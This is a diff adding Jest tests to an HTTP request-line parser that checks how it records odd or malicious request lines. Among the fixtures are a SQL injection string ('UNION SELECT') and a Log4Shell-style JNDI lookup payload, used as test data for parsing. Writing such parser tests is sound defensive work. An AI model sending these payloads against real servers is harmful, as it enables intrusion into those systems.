@@ -222,6 +222,41 @@ describe('one exchange', () => {
       { statusCode: 201, requestBodyBytes: 3, durationMs: 4, outcome: 'complete', partial: false },
     ],
   ];
+  test.each<[line: string, facts: Partial<HttpFacts>]>([
+    [
+      'GET http://bad.example/x HTTP/1.1',
+      { target: 'http://bad.example/x', scheme: 'http', authority: 'bad.example' },
+    ],
+    ['GET HTTPS://u:secret@bad.example:8443?q HTTP/1.1', { scheme: 'https', authority: 'bad.example:8443' }],
+    ['CONNECT bad.example:443 HTTP/1.1', { target: 'bad.example:443', authority: 'bad.example:443' }],
+    ['OPTIONS * HTTP/1.1', { target: '*', authority: 'good.example' }],
+    ['GET /http://bad.example/ HTTP/1.1', { target: '/http://bad.example/', authority: 'good.example' }],
+    // Raw spaces.
+    ['GET /?id=1 UNION SELECT a FROM b HTTP/1.1', { method: 'GET', target: '/?id=1 UNION SELECT a FROM b' }],
+    ['GET /a HTTP/1.1 HTTP/1.0', { target: '/a HTTP/1.1', version: '1.0' }],
+    ['GET   /a\t HTTP/1.1 ', { target: '/a', version: '1.1' }],
+    ['POST /$%7Bjndi:ldap://h/a} b HTTP/1.0', { method: 'POST', target: '/$%7Bjndi:ldap://h/a} b' }],
+  ])('%s', (line, expected) => {
+    const pieces = [
+      client(`${line}\r\nHost: good.example\r\n\r\n`),
+      server('HTTP/1.1 400 Bad\r\nContent-Length: 0\r\n\r\n'),
+    ];
+    const { facts } = run(pieces);
+    expect(facts).toMatchObject([{ ...expected, statusCode: 400, partial: false }]);
+    expect(run(cut(pieces, () => 0, 1)).facts).toEqual(facts);
+  });
+
+  test.each([
+    'GET /a b HTTP/2.0',
+    'GET  HTTP/1.1',
+    'GET /a b',
+    'LOOK at this HTTP/1.1',
+    `GET /a ${'b'.repeat(9_000)}`,
+  ])('no request: %s', (line) => {
+    const { facts } = run([client(`${line}\r\n\r\n`)]);
+    expect(facts.filter(({ method }) => method !== undefined)).toEqual([]);
+  });
+
   test.each(rows)('%s', (_, pieces, expected) => {
     const whole = run(pieces);
     expect(whole.facts).toHaveLength(1);
